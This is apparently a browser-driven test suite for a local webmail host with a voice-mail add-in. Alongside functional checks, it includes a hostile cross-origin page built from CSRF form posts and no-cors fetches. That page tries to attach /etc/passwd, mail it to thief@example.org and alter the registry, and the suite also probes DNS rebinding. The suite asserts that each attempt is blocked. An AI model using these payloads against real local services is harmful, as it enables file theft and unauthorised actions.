// The page as a person uses it, in Debian's Chromium: mailhost --web with the
// add-in registered in a data folder of the test's own, opened at the address
// it prints (with this start's token). The Maildir is seeded as scripts/run
// seeds it, and Send goes to a loopback SMTP server of the test's own. Pages
// of other origins in the same browser try to drive it and must not.
// Environment: MAILHOST, ADDIN (the library), ARTIFACTS (screenshots go there).
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { createServer, request } from "node:http";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const root = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
const python = "/usr/bin/python3";  // Debian's, which has aiosmtpd
import { chromium } from "playwright-core";
import { addressMail, must, newMail, registerAddinCopy, startMailhost, stopMailhost, testFolders } from "./mailhost.mjs";

const { mailhost, addin, artifacts, data, maildir } = testFolders("page");
const smtpOut = join(data, "smtp");
let browser, page, host, smtp, smtpPort, address, port = 0;
const uploadLimitMiB = 1;
const cspViolations = [];

async function startSmtp() {
  mkdirSync(smtpOut, { recursive: true });
  smtp = spawn(python, [join(root, "tests/support/smtp_sink.py"), smtpOut, "--refuse-rcpt", "nobody@example.org"], { stdio: "inherit" });
  for (let i = 0; i < 100 && !existsSync(join(smtpOut, "port")); ++i) await new Promise((r) => setTimeout(r, 100));
  return Number(readFileSync(join(smtpOut, "port"), "utf8"));
}

// A received voice mail, as the main job's first start finds one, and two plain ones.
function seed() {
  must("espeak-ng", ["-w", join(data, "voice.wav"), "A voice message for the test."]);
  must("lame", ["--quiet", "-m", "m", join(data, "voice.wav"), join(data, "voice.mp3")]);
  must(python, [join(root, "scripts/seed_voice_mail.py"), maildir, join(data, "voice.mp3")]);
  for (const [name, subject] of [["1700000000.plain1.test", "Lunch on Friday?"], ["1700000001.plain2.test", "Quarterly report"]]) {
    writeFileSync(join(maildir, "new", name), `From: Kim <kim@example.org>\r\nTo: you@localhost\r\nSubject: ${subject}\r\nDate: Tue, 14 Nov 2023 22:13:20 +0000\r\nMessage-ID: <${name}@example.org>\r\n\r\nSee you.\r\n`);
  }
  // A draft whose text is far longer than the page shows at once.
  mkdirSync(join(maildir, ".Drafts", "cur"), { recursive: true });
  const minutes = Array.from({ length: 4000 }, (_, i) => `Line ${i + 1} of the minutes.`).join("\r\n") + "\r\nEND OF MINUTES\r\n";
  writeFileSync(join(maildir, ".Drafts", "cur", "1700000002.minutes.test:2,DS"), `From: me@example.org\r\nTo: team@example.org\r\nSubject: Minutes\r\nDate: Tue, 14 Nov 2023 22:13:20 +0000\r\nMessage-ID: <minutes@example.org>\r\n\r\n${minutes}`);
}

// The text part of a message file, decoded by Python's own mail parser.
function textOf(file) {
  const script = "import email,sys\nm=email.message_from_binary_file(open(sys.argv[1],'rb'))\n" +
    "p=[x for x in m.walk() if x.get_content_type()=='text/plain']\nprint(p[0].get_payload(decode=True).decode())";
  return must(python, ["-c", script, file]);
}

// What Python's own mail parser finds in a message file: its audio/mpeg part.
function mp3Of(file) {
  const script = "import email,sys\nm=email.message_from_binary_file(open(sys.argv[1],'rb'))\n" +
    "p=[x for x in m.walk() if x.get_content_type()=='audio/mpeg']\nd=p[0].get_payload(decode=True)\n" +
    "print(p[0].get_filename(), len(d), d[:2].hex())";
  const [name, size, head] = must(python, ["-c", script, file]).trim().split(" ");
  return { name, size: Number(size), head };
}

// The names of a message file's attachments, as Python's own mail parser finds them.
function attachmentNames(file) {
  const script = "import email,sys\nm=email.message_from_binary_file(open(sys.argv[1],'rb'))\n" +
    "print('\\n'.join(p.get_filename() for p in m.walk() if p.get_filename()))";
  return must(python, ["-c", script, file]).trim().split("\n");
}

// A page of another site: it knows where mailhost listens but not its
// secret, and tries what drove an unguarded mailhost: text/plain form posts
// (no script needed) and no-cors fetches of commands, an upload and an answer.
function hostilePage(target) {
  const lines = ["new w9", "to w9 thief@example.org", "attach w9 /etc/passwd", "send w9",
    "registry set Software\\Thief Stolen sz yes", "quit"];
  // A form field `LINE #` with value x posts "LINE #=x": the rest is a comment.
  const forms = lines.map((line, i) => `<iframe name="sink${i}"></iframe>` +
    `<form method="post" enctype="text/plain" action="${target}/command" target="sink${i}"><input name="${line} #" value="x"></form>`);
  const script = `
    const target = ${JSON.stringify(target)};
    const post = (path, body) => fetch(target + path, { method: "POST", mode: "no-cors", credentials: "include", body });
    const tries = ${JSON.stringify(lines)}.map((line) => post("/command", line));
    tries.push(post("/upload?window=w9&name=passwd", "root:x:0:0"), post("/answer", "Yes"));
    const frames = [...document.querySelectorAll("iframe")];
    tries.push(...frames.map((frame) => new Promise((done) => { frame.onload = done; setTimeout(done, 10000); })));
    for (const form of document.forms) form.submit();
    Promise.allSettled(tries).then(() => { document.title = "tried"; });`;
  return `<!doctype html><title>hostile</title>${forms.join("\n")}<script>${script}</script>`;
}

async function startHost() {
  const started = await startMailhost(mailhost, ["--web", String(port), "--data", data, "--smtp", `smtp://127.0.0.1:${smtpPort}`,
    "--from", "me@example.org", "--upload-limit", String(uploadLimitMiB), "--sound", "alsa"]);
  ({ address, port } = started);
  return started.child;
}

const stopHost = () => stopMailhost(host);

async function shot(name) {
  await page.screenshot({ path: join(artifacts, `${name}.png`) });
}

const bar = (win) => page.locator(`.window[data-name="${win}"] .bar`);
const box = () => page.locator("dialog#box[open]");

// A request to mailhost as a script or another program makes it: `host` is
// the Host header, `token` goes as "Authorization: Bearer".
function ask(path, { method = "GET", host = `127.0.0.1:${port}`, token, body } = {}) {
  return new Promise((resolve, reject) => {
    const headers = { Host: host };
    if (token) headers.Authorization = `Bearer ${token}`;
    const req = request({ host: "127.0.0.1", port, path, method, headers }, (res) => {
      let text = "";
      res.setEncoding("utf8");
      res.on("data", (chunk) => { text += chunk; });
      res.on("end", () => resolve({ status: res.statusCode, text }));
    });
    req.on("error", reject);
    req.end(body);
  });
}
const token = () => readFileSync(join(data, "page-token"), "utf8").trim();
const mailFiles = (folder) => ["cur", "new"].flatMap((sub) => readdirSync(join(maildir, folder, sub)));
const uploadsLeft = () => existsSync(join(data, "uploads")) ? readdirSync(join(data, "uploads")) : [];

before(async () => {
  registerAddinCopy(mailhost, addin, data);
  seed();
  smtpPort = await startSmtp();
  host = await startHost();
  // evil.test is a name of another site that resolves to this machine.
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
    args: ["--no-sandbox", "--host-resolver-rules=MAP evil.test 127.0.0.1"] });
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  page = await context.newPage();
  page.setDefaultTimeout(60000);  // shared machines and the sanitizer build are slow
  page.on("console", (message) => { if (/Content Security Policy/.test(message.text())) cspViolations.push(message.text()); });
  await page.goto(address);
  assert.equal(new URL(page.url()).search, "", "the page lands on the bare address, the token gone from it");
});

after(async () => {
  await browser?.close();
  if (host && host.exitCode === null) await stopHost();
  smtp?.kill();
  rmSync(data, { recursive: true, force: true });
});

test("the first start offers the tutorial in a box; No closes it and opens nothing", async () => {
  await box().waitFor();
  assert.match(await box().locator("h2").textContent(), /Sonvera Tutorial/);
  await shot("tutorial-box");
  await box().getByRole("button", { name: "No" }).click();
  await box().waitFor({ state: "detached" }).catch(() => {});
  await page.waitForFunction(() => !document.querySelector("dialog#box").open);
  assert.doesNotMatch(await page.locator("#log").textContent(), /^open /m);
  await page.locator("#explorer-bar button", { hasText: "Sonvera" }).waitFor();
});

test("pages of other origins and names cannot drive mailhost while the person's tab is logged in", async () => {
  const registry = readFileSync(join(data, "registry.reg"));
  const before = { drafts: mailFiles(".Drafts"), sent: mailFiles(".Sent"), smtp: readdirSync(smtpOut) };
  const hostile = createServer((req, res) => {
    res.writeHead(200, { "Content-Type": "text/html" });
    res.end(hostilePage(`http://127.0.0.1:${port}`));
  });
  await new Promise((resolve) => hostile.listen(0, "127.0.0.1", resolve));
  let other = null;
  try {
    other = await page.context().newPage();  // the same browser profile: the cookie is there
    // Another port of this machine is the same site (the cookie goes along);
    // evil.test is another site.
    for (const origin of [`http://127.0.0.1:${hostile.address().port}`, `http://evil.test:${hostile.address().port}`]) {
      await other.goto(`${origin}/`);
      await other.waitForFunction(() => document.title === "tried");
    }
    // DNS rebinding: a name of another site that now resolves to 127.0.0.1.
    assert.equal((await other.goto(`http://evil.test:${port}/state`)).status(), 403);
    assert.equal((await ask("/state", { host: `evil.test:${port}`, token: token() })).status, 403);
    assert.equal((await ask("/state")).status, 403, "no token, no state");
    assert.equal((await ask("/command", { method: "POST", body: "new w9" })).status, 403);
    assert.equal((await ask("/state", { token: token() })).status, 200, "the token is what opens it");
  } finally {
    await other?.close();
    hostile.closeAllConnections();
    hostile.close();
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  assert.equal(host.exitCode, null, "mailhost still runs");
  const state = JSON.parse((await ask("/state", { token: token() })).text);
  assert.deepEqual(state.windows.map((w) => w.name).filter((name) => name === "w9"), [], "no window was opened");
  assert.deepEqual(mailFiles(".Drafts"), before.drafts, "no draft was made");
  assert.deepEqual(mailFiles(".Sent"), before.sent, "nothing was sent");
  assert.deepEqual(readdirSync(smtpOut), before.smtp, "nothing reached the mail server");
  assert.ok(readFileSync(join(data, "registry.reg")).equals(registry), "the registry file is unchanged");
  assert.doesNotMatch(await page.locator("#log").textContent(), /thief|Thief|passwd/);
});

test("the received voice mail plays from the main window and stops", async () => {
  const row = page.locator('#messages[data-folder="Inbox"] tr[data-id]', { hasText: "A voice message for you" });
  await row.waitFor();
  assert.match(await row.getAttribute("class"), /unread/);
  await row.click();
  const explorer = page.locator("#explorer-bar");
  await explorer.getByRole("button", { name: "Play" }).waitFor();
  await page.locator("#reading", { hasText: "Robin Example" }).waitFor();
  await explorer.getByRole("button", { name: "Play" }).click();
  await explorer.getByRole("button", { name: "Stop" }).waitFor();
  await page.locator('[data-form="Fx"]').waitFor();
  await shot("playing");
  await explorer.getByRole("button", { name: "Stop" }).click();
  await explorer.getByRole("button", { name: "Play" }).waitFor();
  // Read on disk, too: the S flag of the Maildir.
  assert.ok(readdirSync(join(maildir, "cur")).some((name) => /:2,[A-Z]*S/.test(name)), "the read mail has the S flag");
});

test("record a voice mail: the meter moves, Stop attaches the MP3, Send submits it and files it in Sent", async () => {
  const win = await newMail(page);
  await bar(win).getByRole("button", { name: "Record" }).waitFor();
  await addressMail(page, win, "Friend <friend@example.org>", "Voice note");

  await bar(win).getByRole("button", { name: "Record" }).click();
  const meter = page.locator('[data-form="Fx"]');
  await meter.waitFor();
  await page.waitForFunction(() => [...document.querySelectorAll('[data-form="Fx"] span')].some((s) => s.textContent === "00:02"), null, { timeout: 60000 });
  assert.ok(await meter.locator("img").count() > 0, "the meter paints its bars");
  await shot("recording");

  await bar(win).getByRole("button", { name: "Stop" }).click();
  await bar(win).getByRole("button", { name: "Play" }).waitFor({ timeout: 60000 });
  await bar(win).getByRole("button", { name: "Delete" }).waitFor();
  const attachment = page.locator(`.window[data-name="${win}"] .attachment`, { hasText: "Sonvera.mp3" });
  await attachment.waitFor();
  const size = Number((await attachment.textContent()).match(/\((\d+) bytes\)/)[1]);
  assert.equal(await meter.count(), 0, "the meter is gone after Stop");
  await shot("recorded");

  // A file of the person's own goes along, uploaded from the mail window; one
  // above mailhost's limit is refused with a message and leaves nothing.
  const picker = page.locator(`.window[data-name="${win}"] input[type=file]`);
  writeFileSync(join(data, "agenda.txt"), "Lunch on Friday, then the report.\n");
  await picker.setInputFiles(join(data, "agenda.txt"));
  await page.locator(`.window[data-name="${win}"] .attachment`, { hasText: "agenda.txt (34 bytes)" }).waitFor();
  writeFileSync(join(data, "large.bin"), Buffer.alloc(uploadLimitMiB * 1024 * 1024 + 1));
  await picker.setInputFiles(join(data, "large.bin"));
  await page.locator("#error", { hasText: `large.bin is larger than ${uploadLimitMiB} MiB` }).waitFor();
  assert.equal(await page.locator(`.window[data-name="${win}"] .attachment`, { hasText: "large.bin" }).count(), 0);
  assert.deepEqual(uploadsLeft(), [], "no uploaded file is left on disk");

  await bar(win).getByRole("button", { name: "Play" }).click();
  await bar(win).getByRole("button", { name: "Stop" }).click();
  await bar(win).getByRole("button", { name: "Play" }).waitFor();
  await page.locator(`.window[data-name="${win}"] .send`).click();
  // A sent mail's window closes, as in any mail client.
  await page.locator(`.window[data-name="${win}"]`).waitFor({ state: "detached" });

  await page.locator("nav button", { hasText: "Sent" }).click();
  const row = page.locator('#messages[data-folder="Sent"] tr[data-id]', { hasText: "Voice note" });
  await row.waitFor();
  assert.match(await row.textContent(), /Sonvera\.mp3/);
  await row.click();
  await page.locator("#reading", { hasText: "To: Friend <friend@example.org>" }).waitFor();
  const footer = /Voice E-mail messages are created using Sonvera technology/;
  assert.match(await page.locator("#reading").textContent(), footer);
  await shot("sent");

  // The same MP3 reached the server and lies in .Sent as a MIME message.
  const received = mp3Of(join(smtpOut, "1.eml"));
  assert.deepEqual(received, { name: "Sonvera.mp3", size, head: received.head });
  assert.match(received.head, /^ff[ef]/, "an MPEG frame starts the attachment");
  assert.match(readFileSync(join(smtpOut, "1.env"), "utf8"), /from me@example\.org\nto friend@example\.org/);
  const sent = readdirSync(join(maildir, ".Sent", "cur")).concat(readdirSync(join(maildir, ".Sent", "new")));
  assert.equal(sent.length, 1);
  const file = join(maildir, ".Sent", existsSync(join(maildir, ".Sent", "cur", sent[0])) ? "cur" : "new", sent[0]);
  assert.deepEqual(mp3Of(file), received);
  assert.deepEqual(attachmentNames(file), ["Sonvera.mp3", "agenda.txt"]);
  assert.deepEqual(attachmentNames(join(smtpOut, "1.eml")), ["Sonvera.mp3", "agenda.txt"]);
  assert.match(textOf(file), footer);
  assert.match(textOf(join(smtpOut, "1.eml")), footer);
  const headers = readFileSync(file, "latin1").split(/\r?\n\r?\n/)[0];
  for (const name of ["Message-Id", "Date", "From", "To", "Subject"]) assert.match(headers, new RegExp(`^${name}: `, "mi"));
  assert.deepEqual(cspViolations, [], "the page does nothing its own policy refuses");
});

test("a refused submission is a box, and the mail stays in Drafts", async () => {
  const win = await newMail(page);
  await addressMail(page, win, "nobody@example.org", "Refused");
  await page.locator(`.window[data-name="${win}"] .send`).click();
  await box().waitFor();
  assert.match(await box().textContent(), /stays in Drafts[\s\S]*550/);
  await shot("refused");
  await box().getByRole("button", { name: "OK" }).click();
  await page.waitForFunction(() => !document.querySelector("dialog#box").open);
  assert.equal(await page.locator(`.window[data-name="${win}"]`).count(), 1, "the window stays open");
  await page.locator(`.window[data-name="${win}"] button`, { hasText: "Close" }).click();
  await page.locator("nav button", { hasText: "Drafts" }).click();
  await page.locator('#messages[data-folder="Drafts"] tr[data-id]', { hasText: "Refused" }).waitFor();
});

test("the Properties dialog keeps the quality chosen; the page's command line refuses what only tests do", async () => {
  const win = await newMail(page);
  await bar(win).getByRole("button", { name: "Properties" }).click();
  const dialog = page.locator('[data-form="FrmProp"]');
  await dialog.waitFor();
  assert.match(await dialog.textContent(), /Version 1\.0\.1/);
  await dialog.locator("select").selectOption("8 Kbs High");
  await page.waitForFunction(() => document.querySelector('[data-form="FrmProp"] select').value === "8 Kbs High");
  await shot("properties");
  await dialog.getByRole("button", { name: "Ok" }).click();
  await dialog.waitFor({ state: "detached" });
  const section = (text) => text.split("[HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\Outlook\\Addins\\Sonvera.Amp]")[1].split("\n[")[0];
  assert.match(section(readFileSync(join(data, "registry.reg"), "utf8")), /^"AQ"="3"$/m);
  await page.locator("#command").fill("registry show Software\\Microsoft\\Office\\Outlook\\Addins\\Sonvera.Amp");
  await page.locator("#command").press("Enter");
  await page.locator("#error", { hasText: "registry runs in scenarios (mailhost --script) and at mailhost's console, not on the page." }).waitFor();
  await page.locator("#command").fill(`attach ${win} /etc/passwd`);
  await page.locator("#command").press("Enter");
  await page.locator("#error", { hasText: "attach runs in scenarios" }).waitFor();
  assert.equal(await page.locator(`.window[data-name="${win}"] .attachment`).count(), 0);
  await page.locator(`.window[data-name="${win}"] button`, { hasText: "Close" }).click();
});

test("the list selects several mails with Ctrl and opens one with Enter", async () => {
  await page.locator("nav button", { hasText: "Inbox" }).click();
  const rows = page.locator('#messages[data-folder="Inbox"] tr[data-id]');
  await rows.nth(2).waitFor();
  await rows.nth(0).click();
  await rows.nth(1).click({ modifiers: ["Control"] });
  await page.waitForFunction(() => document.querySelectorAll("#messages tr.selected").length === 2);
  await page.locator("#reading", { hasText: "2 items selected" }).waitFor();
  await rows.nth(1).click();
  await rows.nth(1).press("Enter");
  await page.waitForFunction(() => document.querySelectorAll(".window.active").length === 1 &&
    document.querySelector(".window.active input[data-field=subject]").disabled);
  await shot("opened");
});

test("a long text shows its start, and the whole of it on demand; a change longer than a command is refused", async () => {
  await page.locator("nav button", { hasText: "Drafts" }).click();
  const row = page.locator('#messages[data-folder="Drafts"] tr[data-id]', { hasText: "Minutes" });
  await row.click();
  const reading = page.locator("#reading");
  await reading.locator("button.whole", { hasText: /Show the whole text \(\d+ bytes\)/ }).waitFor();
  assert.doesNotMatch(await reading.textContent(), /END OF MINUTES/);
  await reading.locator("button.whole").click();
  await page.locator("#reading", { hasText: "END OF MINUTES" }).waitFor();

  await row.press("Enter");
  const win = await page.locator(".window.active").getAttribute("data-name");
  const text = page.locator(`.window[data-name="${win}"] [data-field=body]`);
  await page.waitForFunction((name) => document.querySelector(`.window[data-name="${name}"] [data-field=body]`).value.startsWith("Line 1 "), win);
  assert.equal(await text.getAttribute("readonly"), "", "a cut text is not to be changed");
  assert.doesNotMatch(await text.inputValue(), /END OF MINUTES/);
  await page.locator(`.window[data-name="${win}"] button.whole`).click();
  await page.waitForFunction((name) => /END OF MINUTES/.test(document.querySelector(`.window[data-name="${name}"] [data-field=body]`).value), win);
  assert.equal(await text.getAttribute("readonly"), null);
  assert.equal(await page.locator(`.window[data-name="${win}"] button.whole`).isVisible(), false, "the whole text is there");
  await text.press("End");
  await text.type(" Signed.");
  await text.blur();
  await page.locator("#error", { hasText: "A command is at most 64 KiB." }).waitFor();
  await page.locator(`.window[data-name="${win}"] button`, { hasText: "Close" }).click();
});

// Where a mail's file is now, whatever other programs and the read mark made of its name.
const fileOf = (folder, unique) => ["cur", "new"].map((sub) => join(maildir, folder, sub))
  .flatMap((dir) => readdirSync(dir).filter((name) => name.startsWith(unique)).map((name) => join(dir, name)))[0];

test("what other programs do: a forwarded voice mail opens in a window of its own, a deleted mail is struck through, a removed one leaves the reading pane", async () => {
  await page.locator("nav button", { hasText: "Inbox" }).click();
  const voice = readFileSync(join(data, "voice.mp3")).toString("base64").replace(/.{76}/g, "$&\r\n");
  const forward = "From: Kim <kim@example.org>\r\nTo: you@localhost\r\nSubject: Fwd: Voice from Anna\r\n" +
    "Date: Tue, 14 Nov 2023 22:13:20 +0000\r\nMessage-ID: <fwd@example.org>\r\nMIME-Version: 1.0\r\n" +
    "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nForwarded.\r\n" +
    "--b\r\nContent-Type: message/rfc822\r\n\r\nFrom: Anna <anna@example.org>\r\nSubject: Voice from Anna\r\n" +
    "MIME-Version: 1.0\r\nContent-Type: audio/mpeg\r\nContent-Transfer-Encoding: base64\r\n\r\n" + voice + "\r\n--b--\r\n";
  writeFileSync(join(maildir, "tmp", "1700000003.forward.test"), forward);
  renameSync(join(maildir, "tmp", "1700000003.forward.test"), join(maildir, "new", "1700000003.forward.test"));
  // Deleted in another client, not yet expunged.
  const report = fileOf("", "1700000001.plain2.test");
  renameSync(report, join(maildir, "cur", "1700000001.plain2.test:2,ST"));
  await page.locator('#messages tr.deleted[data-id]', { hasText: "Quarterly report" }).waitFor();

  const row = page.locator('#messages[data-folder="Inbox"] tr[data-id]', { hasText: "Fwd: Voice from Anna" });
  await row.click();
  const attached = page.locator("#reading button.attachment", { hasText: "Voice from Anna.eml" });
  await attached.click();
  const win = page.locator(".window.active");
  await win.locator(".attachment", { hasText: "ATT00001.mp3" }).waitFor();
  assert.equal(await win.locator("input[data-field=subject]").inputValue(), "Voice from Anna");
  await win.locator('.bar button[data-caption="Play"]').waitFor();
  await shot("attached-mail");
  await win.locator("button", { hasText: "Close" }).click();

  rmSync(fileOf("", "1700000003.forward.test"));
  await page.locator("#reading", { hasText: "Select a message to read it." }).waitFor();
  await row.waitFor({ state: "detached" });
});

test("a restart of mailhost while the page is open: the page sends the person to the new address, an error box is answered No", async () => {
  const oldAddress = address;
  await stopHost();
  await page.locator("#status", { hasText: "reconnecting" }).waitFor();
  // A face gone from the add-in's folder: its start asks whether to quit.
  rmSync(join(data, "addin", "PlayButton.bmp"));
  host = await startHost();
  assert.notEqual(address, oldAddress, "each start has a token of its own");
  // The old cookie is worth nothing now: the page says so and stops asking.
  await page.locator("#status", { hasText: "mailhost was restarted" }).waitFor({ timeout: 60000 });
  assert.match(await page.locator("#status").textContent(), new RegExp(`page http://127\\.0\\.0\\.1:${port}/\\?token=`));
  await page.goto(address);
  await page.locator("#status", { hasText: "connected" }).waitFor({ timeout: 60000 });
  await box().waitFor();
  const text = await box().textContent();
  assert.match(text, /File not found[\s\S]*Do you want to quit Sonvera\?/);
  assert.doesNotMatch(text, /Tutorial/, "the same data folder: the tutorial is not offered again");
  await shot("error-box");
  await box().getByRole("button", { name: "No" }).click();
  await page.waitForFunction(() => !document.querySelector("dialog#box").open);
  await page.locator("#explorer-bar button", { hasText: "Sonvera" }).waitFor();
  // The mail sent before the restart is still there.
  await page.locator("nav button", { hasText: "Sent" }).click();
  await page.locator('#messages[data-folder="Sent"] tr[data-id]', { hasText: "Voice note" }).waitFor();
  await shot("restarted");
});

test("folders other programs make, rename and remove show at once, nested, named as people wrote them", async () => {
  const made = [".&AMQ-rger", ".Archive.2024", ".Archive.&ZeVnLIqe-"];
  for (const folder of made) for (const sub of ["cur", "new", "tmp"]) mkdirSync(join(maildir, folder, sub), { recursive: true });
  mkdirSync(join(maildir, ".notmuch", "xapian"), { recursive: true });
  const nav = page.locator("nav#folders");
  await nav.getByRole("button", { name: "Ärger", exact: true }).waitFor();
  // Archive itself is no folder: a name under which its subfolders are.
  const archive = nav.locator("li:has(> span.parent)");
  assert.equal(await archive.locator("> span.parent").textContent(), "Archive");
  assert.deepEqual(await archive.locator("> ul > li > button").allTextContents(), ["2024", "日本語"]);
  assert.equal(await nav.getByText("notmuch").count(), 0, "notmuch's index is no folder");
  await shot("folders");

  // The folder shown is renamed away: the list says so, the new name is there.
  await archive.getByRole("button", { name: "2024" }).click();
  await page.locator('#messages[data-folder="Archive/2024"]').waitFor({ state: "attached" });
  renameSync(join(maildir, ".Archive.2024"), join(maildir, ".Archive.2025"));
  await archive.getByRole("button", { name: "2025" }).waitFor();
  await page.locator("#messages tr.gone", { hasText: "The folder Archive/2024 does not exist." }).waitFor();
  await nav.getByRole("button", { name: "2025" }).click();
  await page.locator('#messages[data-folder="Archive/2025"]').waitFor({ state: "attached" });

  rmSync(join(maildir, ".&AMQ-rger"), { recursive: true });
  await nav.getByRole("button", { name: "Ärger", exact: true }).waitFor({ state: "detached" });
  await nav.getByRole("button", { name: "Inbox" }).click();
  for (const folder of [".Archive.2025", ".Archive.&ZeVnLIqe-", ".notmuch"]) rmSync(join(maildir, folder), { recursive: true });
  await archive.waitFor({ state: "detached" });
});

test("a quit sent to the page ends mailhost, even while a box waits for an answer", async () => {
  await stopHost();
  host = await startHost();  // the face is still gone: the start asks whether to quit
  await page.goto(address);
  await box().waitFor();
  const ended = new Promise((resolve) => host.once("exit", resolve));
  // Its answer may not outrun the exit.
  await ask("/command", { method: "POST", token: token(), body: "quit" }).catch(() => {});
  assert.equal(await ended, 0, "mailhost did not end at quit");
});
